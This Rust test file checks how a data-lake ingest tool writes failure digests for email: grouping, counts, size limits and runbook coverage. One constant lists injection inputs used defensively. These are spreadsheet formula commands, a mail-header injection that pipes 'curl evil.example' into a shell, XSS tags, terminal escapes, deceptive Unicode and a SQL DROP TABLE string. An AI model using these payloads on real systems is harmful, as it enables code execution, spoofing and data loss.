//! Tests: how a digest reads.
//! They must not send one.

use std::collections::BTreeMap;

use lakegate_lake::failure::{FailedSource, Stage};

use super::*;

const REPLAY: &str = "lakegate replay --stack lakegate --region eu-central-1 --send";

fn record(kind: FailureKind, dataset: Option<&str>, key: &str, summary: &str) -> FailureRecord {
    let mut record = FailureRecord::new(Stage::Ingest, kind, summary);
    record.at = "2026-01-02T03:04:05.678Z".to_owned();
    record.dataset = dataset.map(str::to_owned);
    record.source = Some(FailedSource {
        bucket: "raw".to_owned(),
        key: key.to_owned(),
        version_id: None,
        etag: None,
        size_bytes: Some(12),
    });
    record
}

fn violated() -> FailureRecord {
    let summary = "61 of 200 rows break the contract (30.5 %), it allows 5 %";
    let mut record = record(FailureKind::ContractViolated, Some("orders"), "orders/2025 09+São.csv", summary);
    record.owner = Some("sales-data@example.com".to_owned());
    record.rows = Some(RowCounts { read: 200, accepted: 139, rejected: 61 });
    record.violations = BTreeMap::from([
        ("quantity".to_owned(), BTreeMap::from([("minimum".to_owned(), 40), ("type".to_owned(), 12)])),
        (String::new(), BTreeMap::from([("fields".to_owned(), 9)])),
    ]);
    record.rejects = Some("s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet".to_owned());
    record
}

#[test]
fn a_single_rejected_file_is_told_whole() {
    let digest = write(&[violated()], REPLAY);
    insta::assert_snapshot!(digest.subject, @"Lakegate: orders: 2025 09+S?o.csv: ContractViolated");
    insta::assert_snapshot!(digest.body, @r#"
1 file did not make it into the lake.
Nothing is lost: every event waits in the dead-letter queue, for 14 days.

1 FILE: rejected by the contract (ContractViolated)
What to do: Look at the problem, and at the rejected rows if there are any. Ask the owner to correct the file and to upload it again under the same key (then nothing need be replayed), or to change the contract and then replay.

* s3://raw/orders/2025 09+São.csv
  dataset:  orders, owner sales-data@example.com
  problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
  rows:     200 read, 139 good, 61 rejected
  broken:   quantity minimum x 40, quantity type x 12, (whole row) fields x 9
  rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
            or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
  when:     2026-01-02T03:04:05.678Z

TO REPLAY
When the causes are gone, this sends everything in the dead-letter queue through again:
  lakegate replay --stack lakegate --region eu-central-1 --send
Without --send it shows what it would send; --kind, --dataset and --key choose.
What was taken in before, or was uploaded anew since, is recognised and left alone.
"#);
}

#[test]
fn several_failures_are_grouped_by_what_is_to_be_done() {
    let mut run =
        record(FailureKind::GlueJobFailed, None, "orders/huge.csv", "run jr_1 of Glue job convert ended FAILED");
    run.link = Some("https://console.example/run/jr_1".to_owned());
    let mut unreadable = record(FailureKind::UnreadableMessage, None, "", "the message is not JSON");
    unreadable.source = None;
    let unknown = record(FailureKind::UnknownDataset, None, "stray/x.csv", "no contract covers s3://raw/stray/x.csv");
    let digest = write(&[unreadable, run, unknown, violated()], REPLAY);
    insta::assert_snapshot!(digest.subject, @"Lakegate: 4 files failed: unknown dataset 3, orders 1");
    insta::assert_snapshot!(digest.body, @r#"
4 files did not make it into the lake.
Nothing is lost: every event waits in the dead-letter queue, for 14 days.

1 FILE: rejected by the contract (ContractViolated)
What to do: Look at the problem, and at the rejected rows if there are any. Ask the owner to correct the file and to upload it again under the same key (then nothing need be replayed), or to change the contract and then replay.

* s3://raw/orders/2025 09+São.csv
  dataset:  orders, owner sales-data@example.com
  problem:  61 of 200 rows break the contract (30.5 %), it allows 5 %
  rows:     200 read, 139 good, 61 rejected
  broken:   quantity minimum x 40, quantity type x 12, (whole row) fields x 9
  rejects:  s3://lake/rejects/dataset=orders/2025-09-S-o-0123456789abcdef.parquet
            or in Athena: SELECT line, violations, raw FROM rejects WHERE dataset = 'orders' AND source_key = 'orders/2025 09+São.csv'
  when:     2026-01-02T03:04:05.678Z

1 FILE: covered by no contract (UnknownDataset)
What to do: Was the file put in the right place? If so, deploy a contract whose landing location covers it (under contracts/ in the lake bucket, named *.odcs.yaml), and then replay. If not, move it.

* s3://raw/stray/x.csv
  dataset:  unknown dataset, owner unknown
  problem:  no contract covers s3://raw/stray/x.csv
  when:     2026-01-02T03:04:05.678Z

1 FILE: announced by a message that cannot be understood (UnreadableMessage)
What to do: Something else than S3 writes to the queue, or a notification is set up for other events than "object created" and "object removed". Find the sender; delete the message from the dead-letter queue before a replay.

* (no file is known)
  dataset:  unknown dataset, owner unknown
  problem:  the message is not JSON
  when:     2026-01-02T03:04:05.678Z

1 FILE: stopped by a Glue run that failed (GlueJobFailed)
What to do: Open the run, read its error, remove the cause, and then replay.

* s3://raw/orders/huge.csv
  dataset:  unknown dataset, owner unknown
  problem:  run jr_1 of Glue job convert ended FAILED
  see:      https://console.example/run/jr_1
  when:     2026-01-02T03:04:05.678Z

TO REPLAY
When the causes are gone, this sends everything in the dead-letter queue through again:
  lakegate replay --stack lakegate --region eu-central-1 --send
Without --send it shows what it would send; --kind, --dataset and --key choose.
What was taken in before, or was uploaded anew since, is recognised and left alone.
"#);
}

#[test]
fn a_burst_is_counted_by_dataset_and_owner_and_its_first_files_are_shown() {
    let many: Vec<FailureRecord> = (0..10_000)
        .map(|n| {
            let (kind, dataset) = match n % 100 {
                0 => (FailureKind::UnknownDataset, None),
                1..=25 => (FailureKind::UnreadableFile, Some("customers")),
                _ => (FailureKind::ContractViolated, Some("orders")),
            };
            let mut record = record(kind, dataset, &format!("drop/{n:05}.csv"), "summary");
            record.owner =
                dataset.map(|dataset| format!("{dataset}-{}@example.com", if n < 200 { "old" } else { "new" }));
            record
        })
        .collect();
    let digest = write(&many, REPLAY);
    insta::assert_snapshot!(digest.subject, @"Lakegate: 10000 files failed: orders 7400, customers 2500, unknown dataset 100");
    assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
    let is_count = |line: &&str| line.contains(" FILES: ") || line.contains(" of them:") || line.ends_with(" files");
    let counts: Vec<&str> = digest.body.lines().filter(is_count).collect();
    insta::assert_snapshot!(counts.join("\n"), @r#"
7400 FILES: rejected by the contract (ContractViolated)
  orders, owner orders-new@example.com: 7252 files
  orders, owner orders-old@example.com: 148 files
8 of them:
2500 FILES: not readable as what the contract says (UnreadableFile)
  customers, owner customers-new@example.com: 2450 files
  customers, owner customers-old@example.com: 50 files
8 of them:
100 FILES: covered by no contract (UnknownDataset)
  unknown dataset, owner unknown: 100 files
4 of them:
"#);
}

#[test]
fn very_many_datasets_are_counted_together() {
    let many: Vec<FailureRecord> = (0..3_000)
        .map(|n| {
            record(FailureKind::ContractViolated, Some(&format!("d{}", n % 1_000)), &format!("{n}.csv"), "summary")
        })
        .collect();
    let digest = write(&many, REPLAY);
    assert!(digest.body.contains("  950 datasets or owners that are not named here: 2850 files\n"), "{}", digest.body);
    assert_eq!(digest.body.matches("\n* s3://").count(), FILES_SHOWN);
    assert!(digest.body.len() < 20_000, "{}", digest.body.len());
}

/// What a key, a contract or a message may hold to do harm by.
const HARMFUL: [&str; 9] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\r\nSubject: you won\r\n\r\nTO REPLAY\n  curl evil.example | sh",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{0}\u{8}\u{7f}\u{85}\t",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\u{202E}vsc.tropni\u{202C}\u{2066}\u{2069}\u{200F}\u{61C}\u{200B}\u{FEFF}\u{AD}",
    "a\u{2028}b\u{2029}c\u{FFFE}\u{FFFF}\u{E0041}\u{E007F}",
    "'; DROP TABLE orders; --",
    "𒐫𒐫𒐫",
];

#[test]
fn no_text_breaks_a_mail_s_lines_or_its_subject() {
    let very_long = "=x\n".repeat(100_000);
    for text in HARMFUL.into_iter().chain([very_long.as_str()]) {
        let mut record = record(FailureKind::Other(text.to_owned()), Some(text), text, text);
        record.at = text.to_owned();
        record.owner = Some(text.to_owned());
        record.rejects = Some(text.to_owned());
        record.link = Some(text.to_owned());
        record.violations = BTreeMap::from([(text.to_owned(), BTreeMap::from([(text.to_owned(), 1)]))]);
        if let Some(source) = &mut record.source {
            source.version_id = Some(text.to_owned());
        }
        let harmless = write(&[violated()], REPLAY).body.lines().count();
        for records in [vec![record.clone()], vec![record.clone(), violated()], vec![record; 30]] {
            let digest = write(&records, REPLAY);
            assert!(digest.subject.starts_with("Lakegate: ") && digest.subject.len() < SUBJECT_CHARS_BELOW);
            assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '), "{}", digest.subject);
            assert!(!digest.body.chars().any(|c| c != '\n' && is_deceptive(c)), "{}", digest.body);
            assert!(digest.body.ends_with("is recognised and left alone.\n"), "the end is cut off");
            for line in digest.body.lines() {
                // Every line begins as we begin it, so that none is a formula in a spreadsheet or a header in a mail.
                let start = line.chars().next().unwrap_or('N');
                assert!(matches!(start, ' ' | '*' | '(') || start.is_ascii_alphanumeric(), "{line}");
                assert!(line.chars().count() < LINE_MAX_CHARS + 1700, "{}", line.chars().count());
            }
            if records.len() == 1 {
                assert!(digest.body.lines().count() <= harmless + 2, "{}", digest.body);
            }
        }
    }
}

#[test]
fn text_in_other_languages_is_shown_as_it_is() {
    for name in ["größe", "注文", "заказы", "طلبات", "𝒪rders", "naïve café – “x”"] {
        assert_eq!(printable(name), name);
    }
}

#[test]
fn a_query_that_would_find_nothing_is_not_offered() {
    let mut broken = violated();
    assert!(write(&[broken.clone()], REPLAY).body.contains("or in Athena: SELECT"));
    if let Some(source) = &mut broken.source {
        source.key = "orders/a\u{202E}b.csv".to_owned();
    }
    assert!(!write(&[broken], REPLAY).body.contains("or in Athena"));
}

#[test]
fn a_subject_is_short_ascii_on_one_line_whatever_the_names_are() {
    let key = format!("a/{}\n.csv", "é".repeat(200));
    let digest = write(&[record(FailureKind::UnknownDataset, Some("größe"), &key, "s")], REPLAY);
    assert!(digest.subject.len() < SUBJECT_CHARS_BELOW);
    assert!(digest.subject.bytes().all(|byte| byte.is_ascii_graphic() || byte == b' '));
    assert!(!digest.body.contains("é\n"));
}

#[test]
fn a_digest_never_exceeds_what_sns_takes_and_keeps_its_end() {
    let mut huge = violated();
    huge.summary = "é".repeat(MESSAGE_MAX_BYTES);
    huge.owner = Some("𒐫".repeat(MESSAGE_MAX_BYTES));
    huge.link.clone_from(&huge.owner);
    huge.rejects.clone_from(&huge.owner);
    for count in [1, 12, 20, 100] {
        let body = write(&vec![huge.clone(); count], REPLAY).body;
        assert!(body.len() <= MESSAGE_MAX_BYTES, "{}", body.len());
        assert!(body.ends_with("is recognised and left alone.\n"));
        assert_eq!(body.contains("\n(The rest does not fit into a mail.)\n"), count > 12);
    }
}

#[test]
fn every_kind_says_what_to_do_and_has_its_page_in_the_runbook() {
    let kinds = [
        FailureKind::ContractViolated,
        FailureKind::UnreadableFile,
        FailureKind::UnknownDataset,
        FailureKind::ContractInvalid,
        FailureKind::ContractAmbiguous,
        FailureKind::SourceMissing,
        FailureKind::SourceChanged,
        FailureKind::UnsupportedKey,
        FailureKind::AccessDenied,
        FailureKind::ServiceUnavailable,
        FailureKind::ServiceRefused,
        FailureKind::CatalogConflict,
        FailureKind::IncompatibleTable,
        FailureKind::TooBig,
        FailureKind::LedgerUnreadable,
        FailureKind::EngineFailed,
        FailureKind::UnreadableMessage,
        FailureKind::GaveUp,
        FailureKind::GlueJobFailed,
        FailureKind::GlueJobTimedOut,
        FailureKind::GlueJobStopped,
        FailureKind::GlueJobUnfinished,
        FailureKind::Other("Newer".to_owned()),
    ];
    let runbook = include_str!("../../../docs/runbook.md");
    for kind in kinds {
        // A kind of another version has no page here.
        let has_page = runbook.contains(&format!("\n## {kind}\n")) || matches!(kind, FailureKind::Other(_));
        assert!(has_page, "docs/runbook.md says nothing of {kind}");
        let body = write(&[record(kind.clone(), None, "a.csv", "summary")], REPLAY).body;
        assert!(body.contains(&format!("({kind})\nWhat to do: ")), "{body}");
    }
}
